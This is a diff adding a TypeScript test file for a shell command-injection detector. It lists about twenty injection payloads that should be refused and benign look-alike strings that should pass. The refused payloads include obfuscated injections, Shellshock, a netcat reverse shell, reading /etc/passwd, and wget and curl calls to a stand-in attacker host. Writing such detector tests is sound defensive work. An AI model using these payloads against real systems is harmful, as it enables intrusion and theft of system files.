@@ -1,0 +1,60 @@
+/** Command lines in every dress, and sentences that hold the same words and signs. */
+import { describe, expect, test } from 'vitest'
+import type { Field } from '../model/request.ts'
+import { asked } from './fixtures/asked.ts'
+import { shell } from './shell.ts'
+
+describe('refused', () => {
+  test.each<[text: string, field?: Partial<Field>]>([
+    ['127.0.0.1; whoami'],
+    ['127.0.0.1 | cat /etc/passwd'],
+    ['x && wget http://evil.example/a'],
+    ['x\nid'],
+    ['$(uname -a)'],
+    ['a`id`'],
+    ["w'h'oami; w'h'oami"],
+    [';w\\hoami'],
+    ['; cat$IFS/etc/hosts'],
+    [';{cat,/etc/hosts}'],
+    ['|/???/c?t /etc/hosts'],
+    ['() { :;}; echo x'],
+    ['<!--#exec cmd="ls"-->'],
+    ['& ping -n 10 127.0.0.1'],
+    ['x|powershell -enc AAAA'],
+    ['nc -e /bin/sh 10.0.0.1 4444'],
+    ['/bin/cat /etc/hosts'],
+    ['; sleep 5'],
+    ['%3B%20whoami'],
+    [';sudo id'],
+    ['|| curl evil.example'],
+  ])('%s', (...[text, field]) => {
+    expect(asked(shell, text, field)).not.toBeNull()
+  })
+})
+
+describe('passes', () => {
+  test.each<[text: string, field?: Partial<Field>]>([
+    ['bread; cut the cheese'],
+    ['cats & dogs'],
+    ['R&D, date & time'],
+    ['a && b || c'],
+    ['run `ls` to see files'],
+    ['| name | value |\n| a | b |'],
+    ['Dear all,\nfind the readings below.\nDate: today'],
+    ['text/html;q=0.9, */*;q=0.8'],
+    ['color: red; font: 12px'],
+    ['https://volcano.example/?id=1&sort=date&find=x'],
+    ['Python; Perl; Ruby'],
+    ['time; place; persons'],
+    ['AT&T; IBM'],
+    ['$(document).ready(go)'],
+    ['MySQL> select'],
+    ['cat'],
+    ['find me later'],
+    ['it costs $5 (or less)'],
+    ['kill the lights; sleep well'],
+    ['x = a | b;'],
+  ])('%s', (...[text, field]) => {
+    expect(asked(shell, text, field)).toBeNull()
+  })
+})
